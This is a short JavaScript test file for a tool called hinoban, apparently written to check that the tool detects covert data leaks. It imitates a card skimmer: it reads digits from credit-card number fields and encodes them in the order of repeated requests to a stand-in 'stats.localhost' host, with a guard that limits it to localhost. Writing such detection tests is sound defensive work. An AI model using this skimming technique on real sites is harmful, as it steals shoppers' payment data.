/* Harmless imitation, for hinoban's tests: the order of equal requests to an allowed third party says it. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('change', function (e) {
	if (e.target.autocomplete !== 'cc-number') return;
	var list = [];
	for (var i = 8; i < 12; i++)
		for (var k = 0; k < 10; k++) list.push((+e.target.value[i] + k) % 10);
	(function next() {
		if (list.length) fetch('http://stats.localhost:' + location.port + '/k/' + list.shift(), {mode: 'no-cors', cache: 'no-store'}).finally(next);
	})();
});
